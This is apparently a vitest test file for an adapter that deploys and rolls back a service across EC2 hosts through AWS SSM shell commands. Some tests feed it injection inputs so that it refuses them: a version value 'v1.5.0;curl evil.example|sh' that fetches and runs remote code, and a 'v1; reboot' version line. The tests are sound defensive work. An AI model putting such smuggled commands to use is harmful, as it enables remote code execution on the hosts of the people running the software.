import { DescribeInstancesCommand, EC2Client } from '@aws-sdk/client-ec2';
import { GetCommandInvocationCommand, InvocationDoesNotExist, ListCommandsCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { instancesTagged } from '../../../adapters/aws/ec2-instances';
import { SsmHostFleet, type SsmHostsTargetConfig } from '../../../adapters/aws/ssm-host-fleet';
import { DeploymentFailedError } from '../../../core/errors';
import { RollingHostsTarget } from '../../../core/hosts/rolling-hosts';
import { fixedClock, region, testCredentials } from './deploy-fixtures';

const ssm = mockClient(SSMClient);
const ec2 = mockClient(EC2Client);

const TARGET: SsmHostsTargetConfig = {
  kind: 'ssm-hosts',
  tags: { app: 'shop-api', env: 'prod' },
  deploy: 'cd /srv/shop && IMAGE={{image}} TAG={{version}} docker compose up -d --wait',
  rollback: 'cd /srv/shop && TAG={{version}} docker compose up -d --wait',
  current: 'cat /srv/shop/VERSION',
  ready: 'curl -fsS http://127.0.0.1:3000/health | grep -q {{version}}',
  maxConcurrency: 1,
  maxErrors: 0,
  commandTimeoutSeconds: 600,
};
const HOSTS = ['i-0aaa', 'i-0bbb', 'i-0ccc'];
const IMAGE = 'registry.example.com/shop-api:v1.5.0';

/** SSM as the adapter sees it: commands sent are listed again, each host's invocation answers `statusOf(host, script)`. */
interface SentCommand {
  readonly id: string;
  readonly comment: string;
  readonly hosts: string[];
  readonly script: string;
}
let sent: SentCommand[];
let statusOf: (host: string, script: string) => { Status: string; ResponseCode?: number; StandardOutputContent?: string; StandardErrorContent?: string };

beforeEach(() => {
  ssm.reset();
  ec2.reset();
  sent = [];
  statusOf = () => ({ Status: 'Success', ResponseCode: 0, StandardOutputContent: 'v1.4.2\n' });
  ssm.on(SendCommandCommand).callsFake((input) => {
    const command = { id: `cmd-${sent.length + 1}`, comment: input.Comment, hosts: input.InstanceIds, script: input.Parameters.commands[0] };
    sent.push(command);
    return { Command: { CommandId: command.id } };
  });
  ssm.on(ListCommandsCommand).callsFake((input) => ({
    Commands: sent.filter((command) => command.hosts.includes(input.InstanceId)).map((command) => ({ CommandId: command.id, Comment: command.comment, DocumentName: 'AWS-RunShellScript' })),
  }));
  ssm.on(GetCommandInvocationCommand).callsFake((input) => {
    const command = sent.find((candidate) => candidate.id === input.CommandId);
    if (!command || !command.hosts.includes(input.InstanceId)) throw new InvocationDoesNotExist({ message: 'no invocation', $metadata: {} });
    return statusOf(input.InstanceId, command.script);
  });
  ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-0ccc' }, { InstanceId: 'i-0aaa' }] }, { Instances: [{ InstanceId: 'i-0bbb' }] }] });
});

function fleet(config: SsmHostsTargetConfig = TARGET): SsmHostFleet {
  const client = new SSMClient({ region, credentials: testCredentials });
  const ec2Client = new EC2Client({ region, credentials: testCredentials });
  return new SsmHostFleet(client, config, () => instancesTagged(ec2Client, config.tags), 'running instances tagged app=shop-api, env=prod', { sleep: async () => undefined, versionsTimeoutMs: 50 });
}

function rolling(config: SsmHostsTargetConfig = TARGET): RollingHostsTarget {
  return new RollingHostsTarget(fleet(config), { kind: 'ssm-hosts', maxConcurrency: config.maxConcurrency, maxErrors: config.maxErrors }, fixedClock);
}

describe('instancesTagged', () => {
  it('selects running instances carrying every tag, sorted by id', async () => {
    const ec2Client = new EC2Client({ region, credentials: testCredentials });
    expect(await instancesTagged(ec2Client, TARGET.tags)).toEqual(HOSTS);
    expect(ec2).toHaveReceivedCommandWith(DescribeInstancesCommand, {
      Filters: [
        { Name: 'tag:app', Values: ['shop-api'] },
        { Name: 'tag:env', Values: ['prod'] },
        { Name: 'instance-state-name', Values: ['running'] },
      ],
      MaxResults: 1000,
    });
  });
});

describe('SsmHostFleet', () => {
  it('reads the running version on each host with the current command, as AWS-RunShellScript', async () => {
    expect(await rolling().current()).toEqual({ version: 'v1.4.2', image: null, ref: 'v1.4.2' });
    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    const [call] = ssm.commandCalls(SendCommandCommand);
    expect(call.args[0].input).toEqual({
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: HOSTS,
      Comment: expect.stringMatching(/^deploy-runbook current [0-9a-z]+$/),
      Parameters: { commands: ['cat /srv/shop/VERSION'], executionTimeout: ['600'] },
      MaxConcurrency: '100%',
      MaxErrors: '100%',
    });
  });

  it('refuses a version line that is not a version: it would reach the rollback command', async () => {
    statusOf = (host) => ({ Status: 'Success', ResponseCode: 0, StandardOutputContent: host === 'i-0bbb' ? 'v1; reboot\n' : 'v1.4.2\n' });
    await expect(rolling().current()).rejects.toThrow(/could not be read on i-0bbb \(the current command printed "v1; reboot" as its last line, which is not a version/);
  });

  it('sends the deploy command to the first batch only, its placeholders filled with the checked values', async () => {
    const handle = await rolling().deploy({ version: 'v1.5.0', image: IMAGE, deploymentId: 'ci-release-1-5-0-0123abcd' });

    expect(handle).toMatchObject({ kind: 'ssm-hosts', ref: 'deploy:i-0aaa;i-0bbb;i-0ccc' });
    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    expect(ssm.commandCalls(SendCommandCommand)[0].args[0].input).toEqual({
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: ['i-0aaa'],
      Comment: expect.stringMatching(/^deploy-runbook [0-9a-f]{16} apply 1$/),
      Parameters: { commands: [`cd /srv/shop && IMAGE=${IMAGE} TAG=v1.5.0 docker compose up -d --wait`], executionTimeout: ['600'] },
      MaxConcurrency: '100%',
      MaxErrors: '100%',
    });
  });

  it('refuses a value a shell would interpret before sending anything', async () => {
    const attempt = rolling().deploy({ version: 'v1.5.0;curl evil.example|sh', image: null, deploymentId: 'x' });
    await expect(attempt).rejects.toThrow(DeploymentFailedError);
    await expect(attempt).rejects.toThrow(/^target\.deploy: \{\{version\}\} would put shell characters into/);
    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
  });

  it('rolls batch by batch, a ready check per batch, finding each command again by its Comment', async () => {
    const target = rolling();
    const handle = await target.deploy({ version: 'v1.5.0', image: IMAGE, deploymentId: 'ci-release-1-5-0-0123abcd' });
    let status;
    for (let call = 0; call < 10 && status?.status !== 'completed'; call++) status = await target.status(handle);

    expect(status?.status).toBe('completed');
    expect(sent.map((command) => `${command.comment.split(' ').slice(2).join(' ')} ${command.hosts.join(',')}`)).toEqual([
      'apply 1 i-0aaa',
      'ready 1 i-0aaa',
      'apply 2 i-0bbb',
      'ready 2 i-0bbb',
      'apply 3 i-0ccc',
      'ready 3 i-0ccc',
    ]);
    expect(sent[1].script).toBe('curl -fsS http://127.0.0.1:3000/health | grep -q v1.5.0');
    expect(ssm).toHaveReceivedCommandWith(ListCommandsCommand, { InstanceId: 'i-0ccc', MaxResults: 50 });
  });

  it('reports a pending invocation as in progress and a failed one with its exit code and masked output', async () => {
    const target = rolling();
    const handle = await target.deploy({ version: 'v1.5.0', image: IMAGE, deploymentId: 'd' });
    statusOf = () => ({ Status: 'InProgress' });
    expect(await target.status(handle)).toMatchObject({ status: 'in-progress', detail: 'batch 1/3 (i-0aaa): deploy of v1.5.0 running: i-0aaa pending: InProgress' });

    statusOf = () => ({ Status: 'Failed', ResponseCode: 1, StandardOutputContent: 'pulling', StandardErrorContent: 'login failed: REGISTRY_PASSWORD=s3cr3t-value' });
    await expect(target.status(handle)).rejects.toThrow(
      'deploy of v1.5.0, batch 1/3 (i-0aaa): 1 host(s) failed, more than target.maxErrors (0): i-0aaa failed: Failed (exit 1): pulling stderr: login failed: REGISTRY_PASSWORD=***; not touched: i-0bbb, i-0ccc',
    );
  });

  it('counts an invocation SSM has not registered yet as pending', async () => {
    const target = rolling();
    const handle = await target.deploy({ version: 'v1.5.0', image: IMAGE, deploymentId: 'd' });
    ssm.on(GetCommandInvocationCommand).rejects(new InvocationDoesNotExist({ message: 'not yet', $metadata: {} }));
    expect((await target.status(handle)).status).toBe('in-progress');
  });

  it('rolls back the started batches with the rollback command and the version read before', async () => {
    statusOf = (host, script) => ({ Status: host === 'i-0bbb' && script.startsWith('curl') && script.endsWith('v1.5.0') ? 'Failed' : 'Success', ResponseCode: 0 });
    const target = rolling();
    const release = await target.deploy({ version: 'v1.5.0', image: IMAGE, deploymentId: 'd' });
    await expect(
      (async () => {
        for (;;) await target.status(release);
      })(),
    ).rejects.toThrow(DeploymentFailedError);
    const rollback = await target.rollback({ version: 'v1.4.2', image: null, ref: 'v1.4.2' }, release);
    for (let call = 0; call < 10 && (await target.status(rollback)).status !== 'completed'; call++);

    const rollbacks = sent.filter((command) => command.script.startsWith('cd /srv/shop && TAG=v1.4.2'));
    expect(rollbacks.map((command) => command.hosts)).toEqual([['i-0bbb'], ['i-0aaa']]);
    expect(sent.some((command) => command.hosts.includes('i-0ccc'))).toBe(false);
  });
});
